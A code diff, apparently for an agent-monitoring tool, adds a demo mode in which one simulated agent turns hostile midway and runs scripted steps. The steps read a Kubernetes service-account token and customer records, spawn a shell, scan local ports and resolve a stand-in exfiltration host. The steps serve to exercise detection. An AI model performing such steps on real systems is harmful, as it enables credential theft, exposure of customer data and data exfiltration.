@@ -29,7 +29,19 @@ pub struct DemoOptions<'a> {
     pub agents_per_class: u32,
     pub output: Option<&'a Path>,
     pub record: Option<&'a Path>,
+    /// Halfway through, the first agent of this class turns hostile.
+    pub hostile: Option<Profile>,
 }
+
+/// What a hijacked agent does: looks for credentials, reads customer PII, spawns a shell, scans
+/// the local ports and resolves an outside name.
+const HOSTILE_STEPS: &[&str] = &[
+    "read:/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "read:/srv/customers/records/c-001.json",
+    "exec:/bin/sh:-c:id",
+    "scan:127.0.0.1:20-80",
+    "dns:exfil.attacker.example@127.0.0.1:53",
+];
 
 pub async fn run(opts: &DemoOptions<'_>) -> anyhow::Result<ExitCode> {
     let config = Config::embedded();
@@ -102,6 +114,24 @@ async fn demo(
             .join(", ")
     );
 
+    if let Some(class) = opts.hostile
+        && let Some((_, id, dir)) = agents.iter().find(|(p, _, _)| *p == class)
+    {
+        let (exe, spawn, dir, id) = (exe.clone(), spawn.clone(), dir.clone(), id.clone());
+        let delay = opts.duration / 2;
+        tokio::spawn(async move {
+            tokio::time::sleep(delay).await;
+            log::warn!("demo: {id} turns hostile now");
+            let mut cmd = std::process::Command::new(&exe);
+            cmd.arg("workload").args(HOSTILE_STEPS);
+            match spawn.spawn(&dir, &mut cmd) {
+                Ok(mut child) => {
+                    let _ = tokio::task::spawn_blocking(move || child.wait()).await;
+                }
+                Err(e) => log::error!("demo: hostile steps not started: {e:#}"),
+            }
+        });
+    }
     live::run_until_stopped(
         &mut source,
         &mut pipeline,
